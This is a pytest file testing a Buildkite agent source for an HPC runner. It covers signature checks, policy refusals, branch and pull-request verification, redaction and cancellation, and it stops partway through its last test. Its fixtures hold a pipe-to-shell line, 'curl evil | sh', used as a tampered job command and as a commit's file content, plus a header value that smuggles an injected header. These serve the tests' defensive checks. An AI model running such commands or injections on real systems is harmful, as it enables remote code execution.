"""The Buildkite source against the agent API emulator, with a stand-in agent (no Slurm).

What a user of Buildkite would see: the job's log (byte-exact once the timestamps are taken
out), one finish with the right exit status and signal reason, whatever the API does meanwhile.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import re
import socket
import subprocess
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import git, wait_until
from fakes.buildkite_api import BuildkiteEmulator
from fakes.buildkite_signer import StepSigner, signed_job
from fakes.github_api import GitHubEmulator
from structlog.testing import capture_logs

from runner.config import BuildkiteConfig, GithubConfig
from runner.job import JobState, OutputFile
from runner.sources import LogSink
from runner.sources.buildkite import protocol
from runner.sources.buildkite import source as source_module
from runner.sources.buildkite.checkout import CheckoutFailed, CommitNotOnRef, checkout
from runner.sources.buildkite.client import AgentSession
from runner.sources.buildkite.protocol import ApiRequest
from runner.sources.buildkite.source import BuildkiteSource

from .buildkite_host import POLICY, FakeHost

FAST = {name: policy.scaled(0.01) for name, policy in protocol.DEFAULT_POLICIES.items()}
STAMP = re.compile(rb"\x1b_bk;t=\d+\x07")
PLUGIN = {"hpc-runner#v1": {"image": "test", "resources": {"time": "5m"}}}


def unstamped(log: bytes) -> bytes:
    return STAMP.sub(b"", log)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A git repository with one commit, as BUILDKITE_REPO."""
    path = tmp_path / "repo"
    path.mkdir()
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"}
    # Buildkite's jobs name the branch main (fakes.buildkite_api.make_job): the checkout checks
    # that the commit is on it.
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    (path / "README").write_text("hello\n")
    subprocess.run(["git", "-C", str(path), "add", "README"], check=True)
    subprocess.run(["git", "-C", str(path), "commit", "-qm", "first"], check=True, env=env)
    return path


@pytest.fixture
def signer() -> StepSigner:
    return StepSigner()


@pytest.fixture
async def bk() -> AsyncIterator[BuildkiteEmulator]:
    async with BuildkiteEmulator(request_headers={"Buildkite-Shard": "7"}, heartbeat_interval=1) as emulator:
        yield emulator


class Running:
    def __init__(self, source: BuildkiteSource, task: asyncio.Task[None], host: FakeHost) -> None:
        self.source = source
        self.task = task
        self.host = host

    async def stop(self) -> None:
        self.host.draining.set()
        await asyncio.wait_for(self.task, 30)


@pytest.fixture
async def make_source(tmp_path: Path, bk: BuildkiteEmulator, signer: StepSigner
                      ) -> AsyncIterator[Callable[..., Running]]:
    started: list[Running] = []
    token = tmp_path / "token"
    token.write_text(bk.registration_token + "\n")
    token.chmod(0o600)
    jwks = tmp_path / "jwks.json"
    jwks.write_text(signer.public_jwks())

    def start(host: FakeHost | None = None, *, workers: int = 1, signed: bool = True,
              redacted_vars: tuple[str, ...] = (), github: GithubConfig | None = None) -> Running:
        host = host or FakeHost(tmp_path / "site")
        config = BuildkiteConfig(token_file=token, verification_jwks_file=jwks if signed else None,
                                 endpoint=bk.url, tags=("queue=hpc",), workers=workers,
                                 allow_unsigned=not signed, redacted_vars=redacted_vars)
        source = BuildkiteSource(config, host, host.buildkite_state(), policies=FAST, http_timeout_s=5,
                                 github=github, restart_backoff_s=0.01)
        running = Running(source, asyncio.create_task(source.serve()), host)
        started.append(running)
        return running

    yield start
    for running in started:
        running.host.draining.set()
        running.host.stopping.set()
        if not running.task.done():
            running.task.cancel()
            with __import__("contextlib").suppress(BaseException):
                await running.task


def queue(bk: BuildkiteEmulator, job: dict[str, Any]) -> str:
    return bk.queue_job(job, agent_query_rules=["queue=hpc"])


async def finished(bk: BuildkiteEmulator, job_id: str, timeout: float = 30) -> dict[str, Any]:
    await wait_until(lambda: bk.job_state(job_id) in ("finished", "canceled", "timed_out"),
                     f"job {job_id} to finish", timeout)
    finishes = bk.finishes(job_id)
    assert len(finishes) == 1, finishes
    return finishes[0]


# -- a signed job runs -------------------------------------------------------------------------


async def test_a_signed_step_runs_and_its_log_and_status_reach_buildkite(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    running.host.outputs["build"] = [b"line one\n", b"line two \xff not utf-8\n", b"no newline"]
    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN],
                                  env={"BUILDKITE_STEP_KEY": "build"}))

    body = await finished(bk, job_id)

    assert (body["exit_status"], body.get("signal_reason"), body["chunks_failed_count"]) == ("0", None, 0)
    log = unstamped(bk.log(job_id))
    assert log.startswith(b"~~~ \xe2\x9c\x85 Job signature verified (key hpc-test, EdDSA)\n"), log
    assert log.endswith(b"line one\nline two \xff not utf-8\nno newline"), log
    assert b"checking out HEAD" in log
    # Every line has its timestamp, and the agent sent the start before any chunk.
    assert bk.jobs[job_id].start_body is not None
    assert bk.header_violations() == []
    expected = {"register": "registration", "connect": "session", "ping": "session", "accept": "session",
                "heartbeat": "session", "disconnect": "session", "start": "job", "chunks": "job",
                "job_state": "job", "finish": "job"}
    used = {(r.endpoint, r.token_kind) for r in bk.recorded if r.endpoint}
    assert {endpoint for endpoint, _ in used} >= {"register", "connect", "ping", "accept", "start", "chunks",
                                                  "finish"}
    assert all(expected[endpoint] == kind for endpoint, kind in used), used
    # The workspace holds the checkout.
    record = running.host.store.find_by_external_id("buildkite", job_id)
    assert record is not None and record.state == JobState.succeeded
    assert (running.host.root / "work" / record.id / "workspace" / "README").read_text() == "hello\n"
    assert record.identity["signer"] == "hpc-test"
    await running.stop()
    agent = next(iter(bk.agents.values()))
    assert agent.disconnected and agent.tags == {"queue": "hpc"}


async def test_the_failed_commands_exit_status_is_reported(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    running.host.exit_status = 3
    job_id = queue(bk, signed_job(signer, "false", repo=str(repo), plugins=[PLUGIN]))
    assert (await finished(bk, job_id))["exit_status"] == "3"


async def test_secrets_of_default_and_configured_names_are_redacted_even_split_across_writes(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source(redacted_vars=("*_CREDENTIALS",))
    running.host.outputs["build"] = [b"db: s3cr3t-cr", b"edential; api: tok-", b"en-value-42\nshort: abc\n"]
    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN],
                                  step_env={"DB_CREDENTIALS": "s3cr3t-credential",
                                            "API_TOKEN": "tok-en-value-42", "OTHER_CREDENTIALS": "abc"},
                                  env={"BUILDKITE_STEP_KEY": "build"}))

    assert (await finished(bk, job_id))["exit_status"] == "0"

    log = unstamped(bk.log(job_id))
    assert log.endswith(b"db: [REDACTED]; api: [REDACTED]\nshort: abc\n"), log
    assert b"s3cr3t" not in log and b"tok-en" not in log


# -- signature rejections ----------------------------------------------------------------------


def tampered_jobs(signer: StepSigner, repo: str) -> dict[str, dict[str, Any]]:
    good = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
    jobs: dict[str, dict[str, Any]] = {}
    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
    job["env"]["BUILDKITE_COMMAND"] = job["step"]["command"] = "curl evil | sh"
    jobs["command"] = job
    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
    job["env"]["MODE"] = "evil"
    jobs["env"] = job
    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
    bigger = {"hpc-runner#v1": {"image": "test", "resources": {"nodes": 64}}}
    job["step"]["plugins"] = [bigger]
    job["env"]["BUILDKITE_PLUGINS"] = '[{"github.com/buildkite-plugins/hpc-runner-buildkite-plugin#v1":' \
                                      ' {"image": "test", "resources": {"nodes": 64}}}]'
    jobs["plugins"] = job
    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN], step_env={"MODE": "ci"})
    job["env"]["BUILDKITE_REPO"] = "https://example.invalid/evil.git"
    jobs["repository"] = job
    jobs["wrong key"] = signed_job(StepSigner(kid="hpc-test"), "make test", repo=repo, plugins=[PLUGIN])
    job = signed_job(signer, "make test", repo=repo, plugins=[PLUGIN])
    job["step"]["signature"]["algorithm"] = "ES256"
    jobs["alg mismatch"] = job
    jobs["missing"] = signed_job(None, "make test", repo=repo, plugins=[PLUGIN])
    assert good["step"]["signature"] is not None
    return jobs


async def test_a_tampered_or_unsigned_job_is_finished_signature_rejected_and_never_run(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source(workers=2)
    ids = {name: queue(bk, job) for name, job in tampered_jobs(signer, str(repo)).items()}

    for name, job_id in ids.items():
        body = await finished(bk, job_id)
        assert (body["exit_status"], body["signal_reason"]) == ("-1", "signature_rejected"), name
        log = unstamped(bk.log(job_id))
        assert log.startswith("+++ ⛔ Job signature verification failed\nerror: ".encode()), (name, log)
        assert bk.jobs[job_id].start_body is not None, name
    assert running.host.ran == []
    assert running.host.store.list_jobs() == []
    assert b"no signature in job" in unstamped(bk.log(ids["missing"]))


async def test_without_keys_and_allow_unsigned_jobs_run_without_a_signer(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], repo: Path) -> None:
    running = make_source(signed=False)
    job_id = queue(bk, signed_job(None, "make", repo=str(repo), plugins=[PLUGIN]))
    assert (await finished(bk, job_id))["exit_status"] == "0"
    record = running.host.store.find_by_external_id("buildkite", job_id)
    assert record is not None and "signer" not in record.identity


# -- refusals ----------------------------------------------------------------------------------


async def test_a_denied_job_shows_the_policys_reasons_and_finishes_agent_refused(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    job = signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                     env={"BUILDKITE_PIPELINE_SLUG": "other"})
    job_id = queue(bk, job)
    body = await finished(bk, job_id)
    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    log = unstamped(bk.log(job_id))
    assert log.startswith("~~~ ✅ Job signature verified".encode()), log
    assert b"hpc-runner: denied by policy:\n  - no grant" in log, log
    assert running.host.ran == []


async def test_a_block_without_image_uses_the_policys_only_image_and_a_bad_block_is_refused(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    plain = queue(bk, signed_job(signer, "make", repo=str(repo)))
    bad = queue(bk, signed_job(signer, "make", repo=str(repo),
                               plugins=[{"org/hpc-runner#v2": {"image": "test", "nodez": 2}}]))
    assert (await finished(bk, plain))["exit_status"] == "0"
    body = await finished(bk, bad)
    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    assert b"nodez" in unstamped(bk.log(bad)) and b"unknown key" in unstamped(bk.log(bad))
    assert len(running.host.ran) == 1


async def test_a_failed_checkout_shows_gits_message(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        tmp_path: Path) -> None:
    running = make_source()
    job_id = queue(bk, signed_job(signer, "make", repo=str(tmp_path / "no-such-repo"), plugins=[PLUGIN]))
    body = await finished(bk, job_id)
    assert (body["exit_status"], body["signal_reason"]) == ("-1", "process_run_error")
    log = unstamped(bk.log(job_id))
    assert b"does not exist" in log and b"git clone of" in log, log
    assert running.host.ran == []


# -- what the signature does not cover ---------------------------------------------------------

# A grant for the core team's builds of main, never forks: the branch, the pull request flag and
# the creator's teams it relies on are job env that Buildkite asserts and no signature covers.
CORE_ON_MAIN = POLICY.replace('principals = ["buildkite:pipeline:example/pipeline"]',
                              'principals = ["buildkite:team:example/core"]\n'
                              'refs = ["refs/heads/main"]\nforks = false')
FORGED_MAIN = {"BUILDKITE_BRANCH": "main", "BUILDKITE_PULL_REQUEST": "false",
               "BUILDKITE_BUILD_CREATOR_TEAMS": "core"}


def commit_on(repo: Path, ref: str, *, name: str = "evil") -> str:
    """A commit that is only on `ref` of `repo` (a branch, or a pull request's head), not on main."""
    git("checkout", "-q", "-b", "hpc-test-side", "main", cwd=repo)
    (repo / name).write_text("curl evil | sh\n")
    git("add", name, cwd=repo)
    git("commit", "-qm", name, cwd=repo)
    sha = git("rev-parse", "HEAD", cwd=repo).strip()
    git("checkout", "-q", "main", cwd=repo)
    git("update-ref", ref, sha, cwd=repo)
    git("branch", "-q", "-D", "hpc-test-side", cwd=repo)
    return sha


@pytest.mark.parametrize("ref", ["refs/heads/feature", "refs/pull/9/head"])
async def test_a_signed_step_claiming_main_in_unsigned_env_with_a_commit_off_main_never_runs(
        ref: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        tmp_path: Path) -> None:
    running = make_source(FakeHost(tmp_path / "site", CORE_ON_MAIN))
    off_main = commit_on(repo, ref)
    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), commit=off_main, plugins=[PLUGIN],
                                  env=FORGED_MAIN))

    body = await finished(bk, job_id)

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    log = unstamped(bk.log(job_id))
    assert f"hpc-runner: refused: commit {off_main} is not on refs/heads/main of {repo}".encode() in log, log
    assert running.host.ran == []


async def test_a_commit_that_is_on_the_claimed_branch_runs(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        tmp_path: Path) -> None:
    running = make_source(FakeHost(tmp_path / "site", CORE_ON_MAIN))
    first = git("rev-parse", "HEAD", cwd=repo).strip()
    (repo / "later").write_text("later\n")
    git("add", "later", cwd=repo)
    git("commit", "-qm", "later", cwd=repo)
    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), commit=first, plugins=[PLUGIN],
                                  env=FORGED_MAIN))

    assert (await finished(bk, job_id))["exit_status"] == "0"
    assert len(running.host.ran) == 1
    record = running.host.store.find_by_external_id("buildkite", job_id)
    assert record is not None
    workspace = running.host.root / "work" / record.id / "workspace"
    assert git("rev-parse", "HEAD", cwd=workspace).strip() == first


async def test_a_grant_with_signed_fields_runs_only_steps_whose_signature_covers_the_branch(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        tmp_path: Path) -> None:
    policy = CORE_ON_MAIN.replace("forks = false", 'forks = false\nsigned_fields = ["ref", "pull_request"]')
    running = make_source(FakeHost(tmp_path / "site", policy))
    asserted = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN], env=FORGED_MAIN))
    # The uploader signed the branch and the pull request flag into the step's env.
    signed = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN],
                                  step_env={"BUILDKITE_BRANCH": "main", "BUILDKITE_PULL_REQUEST": "false"},
                                  env={"BUILDKITE_BUILD_CREATOR_TEAMS": "core"}))

    body = await finished(bk, asserted)
    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    assert (b"  - grant 'pipeline': the job's ref, pull_request are not signed (Buildkite asserts them); "
            b"the grant requires signed_fields (ref, pull_request)\n") in unstamped(bk.log(asserted))
    assert (await finished(bk, signed))["exit_status"] == "0"
    assert len(running.host.ran) == 1
    record = running.host.store.find_by_external_id("buildkite", signed)
    # The event is not signed: BUILDKITE_SOURCE is not in the signed env.
    assert record is not None and record.identity["signed"] == ["ref", "pull_request"]


async def test_head_is_the_tip_of_the_claimed_branch_and_a_ref_git_would_refuse_is_never_fetched(
        repo: Path, tmp_path: Path) -> None:
    tip = commit_on(repo, "refs/heads/feature")

    await checkout(str(repo), "HEAD", tmp_path / "a", ref="refs/heads/feature")
    assert git("rev-parse", "HEAD", cwd=tmp_path / "a").strip() == tip

    with pytest.raises(CommitNotOnRef, match="is not a valid git ref"):
        await checkout(str(repo), tip, tmp_path / "b", ref="refs/heads/x:refs/heads/main")
    with pytest.raises(CheckoutFailed, match="could not fetch refs/heads/gone") as missing:
        await checkout(str(repo), tip, tmp_path / "c", ref="refs/heads/gone")
    assert not isinstance(missing.value, CommitNotOnRef)
    assert not (tmp_path / "c" / "evil").exists()


# -- tag builds --------------------------------------------------------------------------------

# Release tags only, and only when the step's signature fixes the tag.
ON_TAGS = POLICY.replace('principals = ["buildkite:pipeline:example/pipeline"]',
                         'principals = ["buildkite:pipeline:example/pipeline"]\n'
                         'refs = ["refs/tags/*"]\nsigned_fields = ["ref"]')
# What Buildkite sends for a build of tag v1.0: the branch is the tag's name too.
TAG_BUILD = {"BUILDKITE_TAG": "v1.0", "BUILDKITE_BRANCH": "v1.0", "BUILDKITE_PULL_REQUEST": "false"}


def release(repo: Path) -> tuple[str, str, str]:
    """main: first, tagged (annotated tag v1.0, as releases are), later: their shas."""
    first = git("rev-parse", "HEAD", cwd=repo).strip()
    shas = []
    for name in ("tagged", "later"):
        (repo / name).write_text(f"{name}\n")
        git("add", name, cwd=repo)
        git("commit", "-qm", name, cwd=repo)
        shas.append(git("rev-parse", "HEAD", cwd=repo).strip())
        if name == "tagged":
            git("tag", "-a", "-m", "release 1.0", "v1.0", cwd=repo)
    return first, shas[0], shas[1]


@pytest.mark.parametrize("commit", ["tagged", "HEAD"])
async def test_a_signed_tag_build_runs_the_tags_commit_under_a_grant_for_tags(
        commit: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        repo: Path, tmp_path: Path) -> None:
    running = make_source(FakeHost(tmp_path / "site", ON_TAGS))
    _, tagged, _ = release(repo)
    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN],
                                  commit=tagged if commit == "tagged" else "HEAD", step_env=TAG_BUILD))

    assert (await finished(bk, job_id))["exit_status"] == "0", unstamped(bk.log(job_id))
    assert len(running.host.ran) == 1
    record = running.host.store.find_by_external_id("buildkite", job_id)
    assert record is not None
    assert (record.identity["ref"], record.identity["event"]) == ("refs/tags/v1.0", "push")
    workspace = running.host.root / "work" / record.id / "workspace"
    assert git("rev-parse", "HEAD", cwd=workspace).strip() == tagged


@pytest.mark.parametrize("which", ["first", "later"])
async def test_a_tag_build_of_any_commit_but_the_tags_own_is_refused(
        which: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        repo: Path, tmp_path: Path) -> None:
    # `first` is in the tag's history, `later` is not: a tag stands for its own commit only.
    running = make_source(FakeHost(tmp_path / "site", ON_TAGS))
    first, tagged, later = release(repo)
    commit = first if which == "first" else later
    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN], commit=commit,
                                  step_env=TAG_BUILD))

    body = await finished(bk, job_id)

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    log = unstamped(bk.log(job_id))
    assert (f"hpc-runner: refused: commit {commit} is not {tagged}, the commit refs/tags/v1.0 of {repo} "
            "points to").encode() in log, log
    assert running.host.ran == []


@pytest.mark.parametrize("branch", ["v1.0", "main"])
async def test_a_grant_for_main_does_not_cover_a_tag_build_whatever_its_branch(
        branch: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        repo: Path, tmp_path: Path) -> None:
    on_main = ON_TAGS.replace('refs = ["refs/tags/*"]', 'refs = ["refs/heads/main"]')
    running = make_source(FakeHost(tmp_path / "site", on_main))
    _, tagged, _ = release(repo)
    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN], commit=tagged,
                                  step_env={**TAG_BUILD, "BUILDKITE_BRANCH": branch}))

    body = await finished(bk, job_id)

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    assert (b"  - grant 'pipeline': ref 'refs/tags/v1.0' is not one of the grant's refs (refs/heads/main)"
            in unstamped(bk.log(job_id))), unstamped(bk.log(job_id))
    assert running.host.ran == []


# -- pull request builds confirmed through GitHub ----------------------------------------------

GH_REPO = "CliMA/ClimaAtmos.jl"


@pytest.fixture
async def gh() -> AsyncIterator[GitHubEmulator]:
    async with GitHubEmulator() as emulator:
        emulator.add_repository(GH_REPO, installation=1)
        yield emulator


@pytest.fixture
def app(gh: GitHubEmulator, tmp_path: Path) -> GithubConfig:
    """The agent's [github] section: the GitHub App, its API the emulator."""
    key = tmp_path / "github-app.pem"
    key.write_text(gh.app_private_key_pem)
    key.chmod(0o600)
    return GithubConfig(app_id=gh.app_id, private_key_file=key, repositories=(GH_REPO,), api_url=gh.url)


@pytest.fixture
def hosted(repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """`BUILDKITE_REPO` as a repository of the emulator's GitHub (its host is 127.0.0.1), which the
    service account's git config sends to the local repository."""
    url = f"https://127.0.0.1/{GH_REPO}.git"
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(f'[url "{repo}"]\n\tinsteadOf = {url}\n')
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return url


def pull_request_job(signer: StepSigner, hosted: str, number: int, commit: str) -> dict[str, Any]:
    """A signed step of a pull request build that says its head is in the base repository."""
    return signed_job(signer, "make test", repo=hosted, commit=commit, plugins=[PLUGIN],
                      env={"BUILDKITE_PULL_REQUEST": str(number), "BUILDKITE_PULL_REQUEST_REPO": hosted,
                           "BUILDKITE_BRANCH": "topic"})


async def test_a_pull_request_from_a_fork_that_the_job_calls_no_fork_is_refused_when_github_says_so(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        gh: GitHubEmulator, app: GithubConfig, hosted: str) -> None:
    running = make_source(github=app)
    pr = gh.add_pull_request(GH_REPO, fork="mallory/ClimaAtmos.jl")
    pr.head_sha = commit_on(repo, f"refs/pull/{pr.number}/head")
    job_id = queue(bk, pull_request_job(signer, hosted, pr.number, pr.head_sha))

    body = await finished(bk, job_id)

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    assert (f"hpc-runner: refused: GitHub says pull request #{pr.number} of {GH_REPO} comes from a fork "
            "(mallory/ClimaAtmos.jl); Buildkite's job says it does not\n").encode() \
        in unstamped(bk.log(job_id))
    assert running.host.ran == [] and running.host.store.list_jobs() == []


async def test_a_pull_request_build_whose_commit_is_not_the_head_github_names_is_refused(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        gh: GitHubEmulator, app: GithubConfig, hosted: str) -> None:
    running = make_source(github=app)
    pr = gh.add_pull_request(GH_REPO)
    older = git("rev-parse", "main", cwd=repo).strip()   # on the pull request's branch, not its head
    pr.head_sha = commit_on(repo, f"refs/pull/{pr.number}/head")
    job_id = queue(bk, pull_request_job(signer, hosted, pr.number, older))

    body = await finished(bk, job_id)

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    assert (f"hpc-runner: refused: the job's commit {older} is not the head of pull request #{pr.number} of "
            f"{GH_REPO}, which GitHub says is {pr.head_sha}\n").encode() in unstamped(bk.log(job_id))
    assert running.host.ran == []


async def test_a_confirmed_pull_request_build_runs_githubs_head(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        gh: GitHubEmulator, app: GithubConfig, hosted: str) -> None:
    running = make_source(github=app)
    pr = gh.add_pull_request(GH_REPO)
    pr.head_sha = commit_on(repo, f"refs/pull/{pr.number}/head")
    job_id = queue(bk, pull_request_job(signer, hosted, pr.number, "HEAD"))

    assert (await finished(bk, job_id))["exit_status"] == "0"

    assert (f"hpc-runner: GitHub confirms pull request #{pr.number} of {GH_REPO}: head {pr.head_sha}, "
            "not from a fork\n").encode() in unstamped(bk.log(job_id))
    record = running.host.store.find_by_external_id("buildkite", job_id)
    assert record is not None
    workspace = running.host.root / "work" / record.id / "workspace"
    assert git("rev-parse", "HEAD", cwd=workspace).strip() == pr.head_sha
    assert [r.operation for r in gh.requests() if r.credential == "installation"] == ["pulls/get"]


async def test_only_pull_request_builds_of_the_apps_github_are_confirmed_and_an_uninstalled_app_refuses(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        gh: GitHubEmulator, app: GithubConfig, hosted: str) -> None:
    running = make_source(github=app)
    push = queue(bk, signed_job(signer, "make test", repo=hosted, plugins=[PLUGIN]))
    elsewhere = queue(bk, signed_job(signer, "make test", repo=str(repo), plugins=[PLUGIN],
                                     env={"BUILDKITE_PULL_REQUEST": "3",
                                          "BUILDKITE_PULL_REQUEST_REPO": str(repo)}))
    assert (await finished(bk, push))["exit_status"] == "0"
    # A repository on another host is not the App's to confirm (its ref must still hold the commit).
    assert (await finished(bk, elsewhere))["signal_reason"] == "process_run_error"
    assert gh.requests() == []

    gh.repository(GH_REPO).installation = None
    gh.org_installations.clear()
    pr = gh.add_pull_request(GH_REPO)
    job_id = queue(bk, pull_request_job(signer, hosted, pr.number, pr.head_sha))
    body = await finished(bk, job_id)
    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
    assert (f"hpc-runner: refused: the GitHub App is not installed on {GH_REPO}, so the pull request cannot "
            "be confirmed: install it there\n").encode() in unstamped(bk.log(job_id))
    assert len(running.host.ran) == 1


async def test_a_pull_request_github_could_not_be_asked_about_never_runs(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
        gh: GitHubEmulator, app: GithubConfig, hosted: str) -> None:
    running = make_source(github=app)
    pr = gh.add_pull_request(GH_REPO)
    gh.fail("pulls/get", 403, message="Resource not accessible by integration")
    job_id = queue(bk, pull_request_job(signer, hosted, pr.number, pr.head_sha))

    body = await finished(bk, job_id)

    assert (body["exit_status"], body["signal_reason"]) == ("-1", "process_run_error")
    log = unstamped(bk.log(job_id))
    assert (f"hpc-runner: pull request #{pr.number} of {GH_REPO} could not be confirmed through "
            "GitHub: ").encode() in log and b"Resource not accessible by integration" in log, log
    assert running.host.ran == []


# -- cancellation ------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["cancel", "timeout", "token"])
async def test_cancel_from_buildkite_cancels_the_job(
        how: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        repo: Path) -> None:
    running = make_source()
    running.host.hold["long"] = asyncio.Event()
    job_id = queue(bk, signed_job(signer, "sleep 100", repo=str(repo), plugins=[PLUGIN],
                                  env={"BUILDKITE_STEP_KEY": "long"}))
    await wait_until(lambda: running.host.ran, what="the job to run")
    if how == "cancel":
        bk.cancel_job(job_id)
    elif how == "timeout":
        bk.time_out_job(job_id)
    else:
        bk.fail("job_state", 401, times=10)
    if how == "token":
        await wait_until(lambda: running.host.store.list_jobs(states=[JobState.cancelled]), what="cancel")
        bk.clear_faults()
        body = await finished(bk, job_id)
    else:
        body = await finished(bk, job_id)
    assert (body["exit_status"], body["signal"], body["signal_reason"]) == ("-1", "SIGTERM", "cancel")
    assert b"hpc-runner: job cancelled; sent SIGTERM\n" in unstamped(bk.log(job_id))


async def test_a_refused_heartbeat_cancels_the_running_job_as_agent_stop(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    running.host.hold["long"] = asyncio.Event()
    job_id = queue(bk, signed_job(signer, "sleep 100", repo=str(repo), plugins=[PLUGIN],
                                  env={"BUILDKITE_STEP_KEY": "long"}))
    await wait_until(lambda: running.host.ran, what="the job to run")

    # Buildkite no longer knows the session (the agent was marked lost): a non-retryable answer.
    bk.fail("heartbeat", 404, times=100, message="No agent found")

    body = await finished(bk, job_id)
    assert (body["exit_status"], body["signal"], body["signal_reason"]) == ("-1", "SIGTERM", "agent_stop")
    assert b"hpc-runner: Buildkite refused this agent's heartbeat; cancelling\n" in unstamped(bk.log(job_id))


# -- the agent session -------------------------------------------------------------------------


async def test_pause_takes_no_job_and_disconnect_ends_the_session(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    running = make_source()
    await wait_until(lambda: bk.agents, what="registration")
    bk.set_action("pause")
    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN]))
    agent = next(iter(bk.agents.values()))
    pings = agent.pings
    await wait_until(lambda: agent.pings >= pings + 2, what="two pings while paused")
    assert bk.job_state(job_id) == "scheduled"
    bk.set_action("idle")
    await finished(bk, job_id)
    bk.set_action("disconnect")
    await asyncio.wait_for(running.task, 20)
    assert agent.disconnected


async def test_headers_from_register_and_ping_are_echoed_and_heartbeats_go_on_during_a_job(
        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
    bk.ping_request_headers = {"Buildkite-Shard": "9", "X-Other": "dropped"}
    running = make_source()
    running.host.hold["long"] = hold = asyncio.Event()
    job_id = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
                                  env={"BUILDKITE_STEP_KEY": "long"}))
    await wait_until(lambda: running.host.ran, what="the job to run")
    agent = next(iter(bk.agents.values()))
    beats = len(agent.heartbeats)
    await wait_until(lambda: len(agent.heartbeats) >= beats + 2, timeout=10, what="heartbeats during the job")
    hold.set()
    await finished(bk, job_id)
    assert bk.header_violations() == []
    assert any(r.headers.get("Buildkite-Shard") == "9" for r in bk.requests("finish"))


UNSENDABLE = "Buildkite asked for a header that cannot be sent; it is left out"


@pytest.mark.parametrize("where", ["register", "ping"])
async def test_a_header_value_with_a_newline_is_left_out_once_told_and_the_session_goes_on(
        where: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
        repo: Path) -> None:
    """aiohttp refuses to send a header value holding a newline: sent back as asked, it would make
    every later call of the session raise."""
    asked = {"Buildkite-Shard": "9", "Buildkite-Broken": "a\r\nX-Injected: 1"}
    if where == "register":
        bk.request_headers = asked
    else:
        bk.ping_request_headers = asked
    with capture_logs() as logs:
        running = make_source()
        await wait_until(lambda: bk.agents, what="registration")
        agent = next(iter(bk.agents.values()))
